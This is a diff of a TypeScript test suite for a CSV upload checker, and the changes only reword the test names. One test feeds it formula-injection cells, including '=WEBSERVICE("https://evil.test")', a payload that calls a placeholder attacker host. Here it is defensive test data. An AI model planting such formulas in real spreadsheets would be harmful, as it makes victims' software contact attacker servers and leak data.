@@ -9,7 +9,7 @@ async function verdict(bytes: string | Buffer, name = 'costs.csv'): Promise<stri
   }
 }
 
-test('a table in text is kept, in UTF-8 and in the alphabet of an old Excel', async () => {
+test('accepts text tables in UTF-8 and in the encoding of an old Excel', async () => {
   const tables = [
     'item,cost\r\nRoof,-1200.50\r\nPhone,+972(0)54-123 4567\r\n- new (see plan),@home\r\n',
     '\ufeffפריט;עלות\nגג;‎-5\n',
@@ -21,7 +21,7 @@ test('a table in text is kept, in UTF-8 and in the alphabet of an old Excel', as
   for (const table of tables) expect(await verdict(table)).toBe('text/csv');
 });
 
-test('nothing, bytes and other kinds under its name are refused', async () => {
+test('rejects empty files, binary data and other file types', async () => {
   expect(await verdict('')).toBe('kind');
   expect(await verdict('a,b\0c')).toBe('kind');
   expect(await verdict(Buffer.from('item,cost\n', 'utf16le'))).toBe('kind');
@@ -31,7 +31,7 @@ test('nothing, bytes and other kinds under its name are refused', async () => {
   expect(await verdict('a,b\n', 'costs.html.csv')).toBe('kind');
 });
 
-test('formulas are refused wherever a spreadsheet begins a cell, also deep in a long file', async () => {
+test('rejects formulas at the start of any cell, also deep in a long file', async () => {
   const cells = [
     '=1+1',
     '  =WEBSERVICE("https://evil.test")',
